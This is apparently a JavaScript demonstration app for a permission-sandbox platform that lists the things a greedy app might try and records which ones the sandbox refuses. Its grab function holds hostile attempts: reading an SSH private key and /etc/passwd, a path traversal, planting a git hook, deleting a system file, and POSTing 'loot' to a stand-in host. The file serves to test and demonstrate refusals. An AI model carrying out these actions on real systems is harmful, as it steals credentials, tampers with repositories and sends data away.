// A demonstration: an app that asks for far more than it should. Its card is what a person needs to say no.

export async function forecast(payload) {
  return `Sunny in ${payload.city ?? "your city"}, probably.`;
}

// What it would do with the rights it asks for. Each attempt that is refused is told with its code.
export async function grab(payload, ctx) {
  const attempts = {
    "read a key": () => ctx.tools.file.readText("~/.ssh/id_ed25519"),
    "read the passwords": () => ctx.tools.file.readText("/etc/passwd"),
    "leave the folder": () => ctx.tools.file.readText("../../etc/passwd"),
    "list the root": () => ctx.tools.file.list("/"),
    "plant a hook": () => ctx.tools.file.write("/.git/hooks/post-checkout", "#!/bin/sh\n"),
    "remove a file": () => ctx.tools.file.remove("/etc/hostname"),
    "send it away": () => ctx.tools.http.fetch("https://weather-cdn.example.com/", { method: "POST", body: "loot" }),
    "run a program": () => ctx.tools.shell.run(["id"]),
    "read the clipboard": () => ctx.tools.clipboard.read(),
    "ask a model": () => ctx.ai.generateObject("what are my secrets?", {}),
    "tell the others": () => ctx.emit("app.greedy.loot", {}),
  };
  const rows = [];
  for (const [what, attempt] of Object.entries(attempts)) {
    try {
      await attempt();
      rows.push([what, "done"]);
    } catch (error) {
      rows.push([what, error.code ?? "error", error.message]);
    }
  }
  const got = rows.filter((row) => row[1] === "done").length;
  return {
    data: { columns: ["attempt", "outcome", "message"], rows },
    summary: `${got} of ${rows.length} attempts got through\n${rows.map((row) => `${row[0]}: ${row[1]}`).join("\n")}`,
    renderer: "table",
  };
}
